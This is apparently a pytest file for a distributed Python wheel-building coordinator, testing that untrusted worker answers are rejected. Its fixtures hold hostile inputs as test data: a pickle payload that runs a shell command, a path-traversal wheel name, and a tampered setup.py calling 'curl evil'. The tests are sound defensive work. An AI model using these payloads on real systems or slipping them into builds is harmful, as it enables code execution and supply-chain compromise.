"""What a worker sends back is untrusted: the coordinator takes a wheel only by its digest from
its own store, runs the same checks as on a local build's output, and reads answers as plain
data. And a worker runs a build only in an image with the coordinator's content."""

import shutil
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

from forged_wheels import plain_wheel
from mirror_builder.build.request import BuildEnvironment, FileRef
from mirror_builder.buildcache.store import BuildCache
from mirror_builder.cluster.buildhost import BuildHost
from mirror_builder.cluster.daskexecutor import DaskExecutor
from mirror_builder.cluster.wire import RemoteOutcome
from mirror_builder.config.executor import DaskSettings
from mirror_builder.errors import BuildError
from test_build_request import REQUEST


class Answer:
    """A Dask future that already holds the worker's answer (or Dask's error)."""

    def __init__(self, value):
        self.value = value

    def result(self):
        if isinstance(self.value, Exception):
            raise self.value
        return self.value

    def release(self):
        pass


class FakeClient:
    def __init__(self, answer):
        self.answer, self.submitted = answer, []

    def submit(self, function, payload, **options):
        self.submitted.append((payload, options))
        return Answer(self.answer)


def coordinator(tmp_path: Path, answer) -> DaskExecutor:
    cache = BuildCache(tmp_path / "builds")
    executor = DaskExecutor(settings=DaskSettings("tls://s:1", tmp_path / "certs"),
                            cache=cache, activity=lambda pin, text: None,
                            work_dir=tmp_path / "remote")
    executor.client, executor.store_url = FakeClient(answer), "https://127.0.0.1:1/"
    executor._resources["bookworm-x86_64"] = "image-bookworm-x86_64-0123"
    executor._largest = (2.0, float(24 << 30))  # the biggest worker: 2 cores, 24 GiB
    return executor


def request(tmp_path: Path):
    """REQUEST with real files: a tree, an sdist and no build-environment wheels."""
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "setup.py").write_text("")
    sdist = tmp_path / "demo-1.0.tar.gz"
    sdist.write_bytes(b"sdist")
    from mirror_builder.files import sha256_of

    source = replace(REQUEST.source, sdist=FileRef(sdist, sha256_of(sdist)), tree=tree,
                     patches=())
    return replace(REQUEST, source=source, env=BuildEnvironment(()),
                   log_path=tmp_path / "logs" / "demo-1.0.log")


def built(cache: BuildCache, made: Path | None, freeze: str = "", **changes) -> dict:
    wheel = made
    digest = cache.add_blob(wheel) if wheel else "f" * 64
    log = cache.add_blob(_text(cache.root.parent / "worker.log", "compiling demo\n"))
    result = {"status": "built", "wheel": None, "backend_requires": [], "missing": [],
              "freeze": freeze, "log_path": None, "command": ["python3"],
              "started_at": "2026-11-30T00:00:00+00:00",
              "ended_at": "2026-11-30T00:00:01+00:00", "seconds": 1.0,
              "container_seconds": 0.9, "timings": {}, "environment": {},
              "user_namespace": {}}
    name = wheel.name if wheel else "demo-1.0-py3-none-any.whl"
    return RemoteOutcome("built", {"name": "wbook", "host": "build-3", "podman": "podman 4.3",
                                   "image_id": "abc"},
                         result=result, wheel=(name, digest), log_sha256=log).to_dict() | changes


def _text(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_a_sound_wheel_comes_back_from_the_store_with_the_worker_named(tmp_path):
    executor = coordinator(tmp_path, None)
    wheel = plain_wheel(tmp_path / "made", "demo", "1.0")
    executor.client.answer = built(executor.cache, wheel)
    result = executor.build(request(tmp_path))
    assert result.wheel.read_bytes() == wheel.read_bytes()
    assert result.worker["name"] == "wbook"
    log = (tmp_path / "logs" / "demo-1.0.log").read_text()
    assert "on worker wbook (host build-3" in log and "compiling demo" in log
    (payload, options) = executor.client.submitted[0]
    assert options["resources"] == {"image-bookworm-x86_64-0123": 1, "cpus": 2.0,
                                    "memory": float(8 << 30)}
    assert options["retries"] == 0 and options["pure"] is False
    assert executor.workers_summary()[0][:3] == ("wbook", "build-3", 1)
    # The inputs were put in the store for the worker to fetch, the tree as one tar blob.
    assert executor.cache.blob(payload["request"]["source"]["sdist"]["sha256"]).is_file()
    assert executor.cache.blob(payload["tree"]).is_file()


@pytest.mark.parametrize("case, problem", [
    ("other package's wheel", "the build's wheel was rejected"),
    ("missing from the store", "did not arrive whole"),
    ("wheel name escapes", "not a wheel's file name"),
    ("freeze names more", "not trusted"),
    ("a pickled object", "the worker's answer was refused"),
    ("worker failed", "no space left on device (on worker wbook)"),
    ("worker refused", "image differs (refused by worker wbook)"),
])
def test_a_bad_answer_is_that_packages_build_failure(tmp_path, case, problem):
    executor = coordinator(tmp_path, None)
    cache = executor.cache
    answers = {
        "other package's wheel": lambda: built(cache, plain_wheel(tmp_path / "m", "evil", "1.0")),
        "missing from the store": lambda: built(cache, None),
        "wheel name escapes": lambda: built(cache, plain_wheel(tmp_path / "m", "demo", "1.0"),
                                            wheel=["../../demo-1.0-py3-none-any.whl", "f" * 64]),
        "freeze names more": lambda: built(cache, plain_wheel(tmp_path / "m", "demo", "1.0"),
                                           freeze="evil==1.0\n"),
        "a pickled object": lambda: "cposix\nsystem\n(S'id'\ntR.",
        "worker failed": lambda: RemoteOutcome("failed", {"name": "wbook"},
                                               error="no space left on device").to_dict(),
        "worker refused": lambda: RemoteOutcome("refused", {"name": "wbook"},
                                                error="image differs").to_dict(),
    }
    executor.client.answer = answers[case]()
    with pytest.raises(BuildError, match="demo==1.0") as excinfo:
        executor.build(request(tmp_path))
    assert problem in str(excinfo.value)
    assert not list((tmp_path / "remote").rglob("*.whl"))  # nothing of it is kept


@pytest.mark.parametrize("error, problem", [
    (type("KilledWorker", (Exception,), {})("Attempted to run task 'build-demo' on 2 different "
                                            "workers, but all those workers died while running "
                                            "it"), "the build killed its worker on every try"),
    (type("NoValidWorkerError", (Exception,), {})("no valid worker"),
     "no worker serving target bookworm-x86_64 is left"),
    (type("NoWorkerError", (Exception,), {})("without any running workers"),
     "no worker serving target bookworm-x86_64 is left"),
])
def test_dasks_errors_become_the_packages_failure_in_words(tmp_path, error, problem):
    executor = coordinator(tmp_path, error)
    with pytest.raises(BuildError, match=problem):
        executor.build(request(tmp_path))


# -- the worker's side --------------------------------------------------------------------
def host_with(image) -> BuildHost:
    host = BuildHost(settings=None, targets=("bookworm-x86_64",), certs=None, member="worker")
    host.worker = SimpleNamespace(name="wbook")
    host.images = {"bookworm-x86_64": image}
    return host


def test_a_worker_builds_in_its_image_when_the_content_is_the_coordinators():
    mine = replace(REQUEST.runtime.image, id="sha256:this-host", tag="localhost/img:here")
    image, refusal = host_with(mine)._image_for(REQUEST.runtime.target, REQUEST.runtime.image)
    assert image is mine and refusal == ""


@pytest.mark.parametrize("change, problem", [
    ({"containerfile_sha256": "9" * 64}, "comes from another Containerfile"),
    ({"system_packages": ("gcc=13",)}, "has other Debian packages (gcc=12, gcc=13)"),
])
def test_a_worker_refuses_a_build_for_an_image_of_other_content(change, problem):
    image, refusal = host_with(replace(REQUEST.runtime.image, **change))._image_for(
        REQUEST.runtime.target, REQUEST.runtime.image)
    assert image is None and problem in refusal


def test_a_worker_refuses_a_target_it_does_not_serve():
    other = replace(REQUEST, runtime=replace(REQUEST.runtime, target="trixie-x86_64"))
    image, refusal = host_with(REQUEST.runtime.image)._image_for(other.runtime.target,
                                                               other.runtime.image)
    assert image is None and "does not serve target trixie-x86_64" in refusal


def test_a_remote_smoke_test_sends_the_index_by_digest_and_takes_only_asked_verdicts(tmp_path):
    from mirror_builder.build.request import SmokeRequest, SmokeResult, SmokeTest
    from mirror_builder.cluster.wire import smoke_results_to_dict
    from mirror_builder.config.settings import BuildSettings
    from mirror_builder.layout import IndexLayout

    index = IndexLayout(tmp_path / "out")
    (index.simple / "demo").mkdir(parents=True)
    (index.simple / "demo" / "index.html").write_text("<a href='x'>x</a>")
    staged = plain_wheel(tmp_path / "staged", "demo", "1.0")
    request_ = SmokeRequest(REQUEST.runtime.image, index, (staged,),
                            (SmokeTest(staged, ("demo",)),), BuildSettings(),
                            tmp_path / "logs" / "smoke.log")
    executor = coordinator(tmp_path, None)
    verdict = {staged.name: SmokeResult(staged.name, "passed", {"demo": None})}
    executor.client.answer = RemoteOutcome("tested", {"name": "wbook"},
                                           result=smoke_results_to_dict(verdict)).to_dict()
    assert executor.smoke_test(request_)[staged.name].status == "passed"
    (payload, _), = executor.client.submitted
    assert [path for path, _ in payload["index"]] == ["simple/demo/index.html"]
    assert all(executor.cache.blob(digest).is_file() for _, digest in payload["index"])

    other = {"other-1.0-py3-none-any.whl": SmokeResult("other-1.0-py3-none-any.whl", "passed")}
    executor.client.answer = RemoteOutcome("tested", {"name": "wbook"},
                                           result=smoke_results_to_dict(other)).to_dict()
    result = executor.smoke_test(request_)[staged.name]
    assert result.status == "failed" and "answered for other wheels" in result.error


def test_a_remote_repair_whose_wheel_is_another_package_is_refused(tmp_path):
    from mirror_builder.build.request import RepairRequest

    executor = coordinator(tmp_path, None)
    wheel = plain_wheel(tmp_path / "built", "demo", "1.0")
    evil = plain_wheel(tmp_path / "evil", "evil", "1.0")
    executor.client.answer = RemoteOutcome(
        "repaired", {"name": "wbook"}, result={"tool": "auditwheel 6", "command": ["x"]},
        wheel=(evil.name, executor.cache.add_blob(evil))).to_dict()
    with pytest.raises(BuildError, match="demo==1.0: the build's wheel was rejected"):
        executor.repair(RepairRequest(wheel, (), REQUEST.runtime, tmp_path / "repair.log",
                                      "demo==1.0"))


@pytest.mark.parametrize("cpus, memory, budget", [
    (None, "8g", {"cpus": 1.0, "memory": float(8 << 30)}),
    (1.5, "512m", {"cpus": 2.0, "memory": float(512 << 20)}),
    (8, "64g", {"cpus": 2.0, "memory": float(24 << 30)}),  # no more than the biggest worker
])
def test_a_build_takes_its_cpus_and_memory_from_its_workers_budget(tmp_path, cpus, memory,
                                                                   budget):
    from mirror_builder.config.settings import BuildSettings

    executor = coordinator(tmp_path, None)
    runtime = replace(REQUEST.runtime, cpus=cpus, limits=BuildSettings(memory=memory))
    assert executor._budget(replace(REQUEST, runtime=runtime)) == budget


def vendored_answer(executor: DaskExecutor, tmp_path: Path, tree: Path, edit) -> dict:
    """The worker's answer to vendoring: the tree with its crates, and edit(tree) applied."""
    from mirror_builder.cluster.wire import pack_tree

    returned = tmp_path / "returned"
    shutil.copytree(tree, returned, symlinks=True)
    (returned / "mirror-builder-vendor" / "itoa-1.0.15").mkdir(parents=True)
    (returned / "mirror-builder-vendor" / "itoa-1.0.15" / "lib.rs").write_text("// itoa\n")
    (returned / ".cargo").mkdir()
    (returned / ".cargo" / "config.toml").write_text("[net]\noffline = true\n")
    edit(returned)
    digest = executor.cache.add_blob(pack_tree(returned, tmp_path / "returned.tar"))
    return RemoteOutcome("vendored", {"name": "wbook"}, tree_sha256=digest,
                         result={"crates": [{"name": "itoa", "version": "1.0.15",
                                             "checksum": "4a5f"}]}).to_dict()


def rust_tree(tmp_path: Path) -> Path:
    tree = tmp_path / "rustprobe-1.0"
    tree.mkdir()
    (tree / "Cargo.toml").write_text("[package]\nname = 'rustprobe'\n")
    (tree / "setup.py").write_text("print('build')\n")
    return tree


def test_a_tree_vendored_on_a_worker_replaces_ours_when_only_crates_were_added(tmp_path):
    executor = coordinator(tmp_path, None)
    executor._image = REQUEST.runtime.image
    tree = rust_tree(tmp_path)
    executor.client.answer = vendored_answer(executor, tmp_path, tree, lambda t: None)
    crates = executor.vendor(tree, "rustprobe==1.0", tmp_path / "log", [tree / "Cargo.toml"])
    assert [(c.name, c.version) for c in crates] == [("itoa", "1.0.15")]
    assert (tree / "mirror-builder-vendor" / "itoa-1.0.15" / "lib.rs").is_file()
    (payload, options), = executor.client.submitted
    assert payload["manifests"] == ["Cargo.toml"]
    assert options["resources"] == {"tests-image-bookworm-x86_64-0123": 1}


@pytest.mark.parametrize("edit", [
    lambda t: (t / "setup.py").write_text("import os; os.system('curl evil')\n"),
    lambda t: (t / "sitecustomize.py").write_text("evil = True\n"),
    lambda t: (t / "setup.py").unlink(),
])
def test_a_vendored_tree_that_changes_the_source_is_refused_and_ours_kept(tmp_path, edit):
    from mirror_builder.errors import SourceError

    executor = coordinator(tmp_path, None)
    executor._image = REQUEST.runtime.image
    tree = rust_tree(tmp_path)
    executor.client.answer = vendored_answer(executor, tmp_path, tree, edit)
    with pytest.raises(SourceError, match="changed the source, not only its crates"):
        executor.vendor(tree, "rustprobe==1.0", tmp_path / "log", [tree / "Cargo.toml"])
    assert (tree / "setup.py").read_text() == "print('build')\n"
    assert not (tree / "mirror-builder-vendor").exists()


def test_a_tree_without_crates_to_vendor_never_goes_to_the_cluster(tmp_path):
    executor = coordinator(tmp_path, None)
    tree = tmp_path / "pure"
    tree.mkdir()
    (tree / "setup.py").write_text("")
    assert executor.vendor(tree, "pure==1.0", tmp_path / "log") == []
    assert executor.client.submitted == []
